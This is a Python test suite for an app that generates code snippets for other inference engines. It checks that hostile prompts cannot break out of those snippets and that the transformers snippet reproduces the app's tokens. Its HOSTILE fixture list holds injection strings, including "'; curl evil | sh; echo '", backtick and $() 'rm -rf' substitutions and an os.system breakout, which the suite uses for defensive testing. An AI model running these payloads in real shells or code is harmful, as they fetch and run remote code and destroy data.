"""Running snippets for other engines: no text breaks out, and the tokens are the app's.

The transformers snippet runs against the bundled model. The shell snippets run in a shell with a
stand-in program that prints its arguments.
"""

import contextlib
import functools
import json
import os
import shutil
import subprocess
import sys
from unittest import mock

import pytest
import torch
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from transformers import AutoModelForCausalLM, AutoTokenizer, GenerationConfig

from engine.decoder import Decoder
from engine.model.loading.checkpoint import BUNDLED_FOLDER
from engine.sampling import SamplingSettings
from tests.bundled import bundled
from tests.engine.export.reading import (
    parameters,
    prompt_of,
    shell_words,
    skeleton,
    unescaped,
    written,
)
from tests.samplers import example

BASH = shutil.which("bash")

HOSTILE = [
    "it's",
    '"quoted"',
    "`rm -rf x` $(rm) ${HOME} $HOME !! !x",
    "'''\"\"\"\\",
    "\\",
    "\\n is not a newline, \\x41 is not A",
    "line\nline\r\nline\ttab",
    "'; curl evil | sh; echo '",
    '")\nimport os\nos.system("x")\n("',
    "\"}' -d '{\"",
    "\x1b[201~rm -rf\r\x07\x00end",
    "naïve 日本語 🙂 \u202ereversed\u2066 \u2028 \xa0",
    "--flag",
    "@file",
    "# comment",
    "{braces} {{twice}} %s %d",
    "'" * 7,
]
hostile_text = st.lists(
    st.one_of(st.sampled_from(HOSTILE), st.text(max_size=12)), min_size=1, max_size=5
).map("".join)


class TestHostileText:
    @given(prompt=hostile_text)
    @settings(max_examples=60)
    def test_prompt_arrives_unchanged_and_breaks_nothing(self, prompt):
        chain = [example("temperature"), example("top_p")]
        plain = written(chain, "Hello")
        for target, snippet in written(chain, prompt).items():
            is_chat = target.startswith("OpenAI")
            expected = [{"role": "user", "content": prompt}] if is_chat else prompt
            assert prompt_of(snippet) == expected, target
            assert skeleton(snippet) == skeleton(plain[target]), f"the prompt broke out: {target}"
            lines = snippet.code.splitlines()
            assert all(line.isprintable() for line in lines), "something invisible is copied along"

    @given(stop=hostile_text.filter(bool), name=hostile_text)
    @settings(max_examples=40)
    def test_stop_string_and_model_name_arrive_unchanged(self, stop, name):
        name = "".join(c for c in name if c.isprintable()) or "x"
        assume(not os.path.exists(name))  # snippets never send the name of a local folder
        for target, snippet in written([], model=name, stop_strings=[stop]).items():
            asked = parameters(snippet)
            if target == "llama.cpp command line":
                assert unescaped(asked["--reverse-prompt"][0]) == stop
                assert asked["--model"][0].removesuffix(".gguf") == name.removesuffix(".gguf")
            else:
                key = "stop_strings" if target == "transformers" else "stop"
                assert asked[key] == [stop]
                assert asked.get("model", name) == name

    @pytest.mark.skipif(BASH is None, reason="bash is not installed")
    @pytest.mark.parametrize("prompt", ["".join(HOSTILE), "--flag", "@file"], ids=ascii)
    def test_a_real_shell_passes_on_the_same_arguments(self, prompt, tmp_path):
        stand_in = 'curl() { printf "%s\\0" "$@"; }\nllama-completion() { printf "%s\\0" "$@"; }\n'
        for snippet in written([example("top_k")], prompt, stop_strings=[prompt]).values():
            if snippet.language != "bash":
                continue
            done = subprocess.run(
                [BASH, "-c", stand_in + snippet.code],
                capture_output=True,
                cwd=tmp_path,
                env={"PATH": "", "OPENAI_API_KEY": "$OPENAI_API_KEY"},
                check=True,
            )
            assert done.stderr == b""
            arguments = done.stdout.decode().split("\0")[:-1]
            assert arguments == shell_words(snippet.code)[1:]


@pytest.fixture(name="bundled", scope="module")
def the_bundled_model():
    return bundled()


PROMPT = 'Once upon a time, "he said", it\'s\n'
NEGATIVE = 'A "happy" story.\nThe happy'


def app_tokens(model, chosen: SamplingSettings, count: int, **more: object) -> list[int]:
    decoder = Decoder(model, PROMPT, chosen, **more)
    list(decoder.run(count))
    return decoder.token_ids


def code_for(model, chosen: SamplingSettings, count: int, **more: object) -> str:
    dtype = str(model.dtype).removeprefix("torch.")
    given_ = {"model": str(BUNDLED_FOLDER), "max_tokens": count, "dtype": dtype} | more
    return written(chosen, PROMPT, **given_)["transformers"].code


# Snippets run here share one loaded model; the one in a separate process really loads it.
loaded_once = functools.cache(AutoModelForCausalLM.from_pretrained)
tokenizer_once = functools.cache(AutoTokenizer.from_pretrained)


def run_here(code: str) -> list[int]:
    """The tokens of a transformers snippet, run unchanged."""
    names: dict[str, object] = {}
    with (
        torch.random.fork_rng(),
        contextlib.redirect_stdout(None),
        mock.patch.object(AutoModelForCausalLM, "from_pretrained", loaded_once),
        mock.patch.object(AutoTokenizer, "from_pretrained", tokenizer_once),
    ):
        exec(compile(code, "<snippet>", "exec"), names)
    return names["new_ids"].tolist()


ALL = {
    **{"temperature": 0.9, "top_k": 40, "top_p": 0.95, "min_p": 0.02, "repetition_penalty": 1.1},
    **{"no_repeat_ngram": 3, "typical_p": 0.95, "epsilon_cutoff": 1e-4, "eta_cutoff": 1e-4},
    **{"min_new_tokens": 4, "logit_bias": {5: 3.0}, "banned": [[7], [5, 6]]},
}
CHOSEN = [
    *({}, {"temperature": 0, "repetition_penalty": 1.3}, ALL),
    {"top_h": 0.5, "temperature": 1.5},
]
MORE = [
    *({"temperature": 0.7}, {"temperature": 1.8}, {"top_k": 1}, {"min_p": 0.1}),
    *({"top_p": 0.9, "temperature": 0.8}, {"repetition_penalty": 0.8, "top_k": 20}),
]
IDS = st.integers(2, 500)
IN_TRANSFORMERS = {
    "temperature": st.floats(0.3, 2.0),
    "top_k": st.integers(1, 200),
    "top_p": st.floats(0.3, 0.999),
    "min_p": st.floats(0.001, 0.5),
    "repetition_penalty": st.floats(0.8, 1.5),
    "no_repeat_ngram": st.integers(1, 4),
    "top_h": st.floats(0.2, 0.95),
    "typical_p": st.floats(0.3, 0.99),
    "epsilon_cutoff": st.floats(1e-4, 0.05),
    "eta_cutoff": st.floats(1e-4, 0.05),
    "min_new_tokens": st.integers(1, 8),
    "logit_bias": st.dictionaries(IDS, st.floats(-5, 5), min_size=1, max_size=5),
    "banned": st.lists(st.lists(IDS, min_size=1, max_size=3), min_size=1, max_size=5),
}


class TestTransformersIsRun:
    """Execute the snippet: it gives the app's tokens, seed for seed."""

    @pytest.mark.parametrize(
        "chosen", [*CHOSEN, *(pytest.param(one, marks=pytest.mark.long) for one in MORE)], ids=str
    )
    def test_chosen_settings_give_the_app_tokens(self, bundled, chosen):
        chosen = SamplingSettings(**chosen, seed=5, parity=True)
        tokens = app_tokens(bundled, chosen, 16)
        assert len(tokens) > 1
        assert run_here(code_for(bundled, chosen, 16)) == tokens

    @pytest.mark.long
    @given(
        chosen=st.fixed_dictionaries({}, optional=IN_TRANSFORMERS),
        seed=st.integers(0, 2**63 - 1),
    )
    @settings(max_examples=12)
    def test_random_settings_give_the_app_tokens(self, bundled, chosen, seed):
        chosen = SamplingSettings(**chosen, seed=seed, parity=True)
        assert run_here(code_for(bundled, chosen, 8)) == app_tokens(bundled, chosen, 8)

    def test_guidance_gives_the_app_tokens(self, bundled):
        greedy = SamplingSettings(temperature=0, parity=True)
        guided = {"negative_prompt": NEGATIVE, "guidance_scale": 1.8}
        tokens = app_tokens(bundled, greedy, 16, **guided)
        assert run_here(code_for(bundled, greedy, 16, **guided)) == tokens
        assert app_tokens(bundled, greedy, 16) != tokens, "guidance changed nothing"

    @pytest.mark.long
    def test_snippet_in_a_new_process_gives_app_tokens(self, bundled):
        chosen = SamplingSettings(temperature=0.8, top_p=0.9, seed=11, parity=True)
        code = code_for(bundled, chosen, 24) + "print(new_ids.tolist())\n"
        threads = {"OMP_NUM_THREADS": str(torch.get_num_threads())}
        done = subprocess.run(
            [sys.executable, "-c", code],
            capture_output=True,
            text=True,
            env=dict(os.environ) | threads,
            check=True,
        )
        assert json.loads(done.stdout.splitlines()[-1]) == app_tokens(bundled, chosen, 24)

    @pytest.mark.parametrize(
        ("temperature", "own"),
        [
            (1.5, {"min_p": 0.3, "typical_p": 0.2, "max_length": 3}),
            (0, {"num_beams": 3}),
            (0, {"no_repeat_ngram_size": 1, "suppress_tokens": [*range(3, 300)]}),
            (0, {"penalty_alpha": 0.6, "top_k": 4}),
            (1.5, {"stop_strings": ["e"]}),
        ],
    )
    def test_checkpoint_generation_config_has_no_effect(
        self, bundled, monkeypatch, own, temperature
    ):
        chosen = SamplingSettings(temperature=temperature, seed=3, parity=True)
        loaded = loaded_once(str(BUNDLED_FOLDER), dtype=str(bundled.dtype).removeprefix("torch."))
        theirs = GenerationConfig.from_dict(loaded.generation_config.to_dict() | own)
        monkeypatch.setattr(loaded, "generation_config", theirs)
        assert run_here(code_for(bundled, chosen, 12)) == app_tokens(bundled, chosen, 12)

    def test_snippet_stops_at_the_same_ends(self, bundled):
        greedy = SamplingSettings(temperature=0, parity=True)
        tokens = app_tokens(bundled, greedy, 32)
        for ends, count in (((tokens[4], tokens[7]), tokens.index(tokens[4]) + 1), ((), 12)):
            code = code_for(bundled, greedy, 12, eos_ids=ends)
            assert run_here(code) == tokens[:count]
        stop = bundled.tokenizer.decode(tokens)[10:14]
        stopped = run_here(code_for(bundled, greedy, 32, stop_strings=[stop]))
        assert stopped == tokens[: len(stopped)] and len(stopped) < len(tokens)
        assert stop in bundled.tokenizer.decode(stopped)
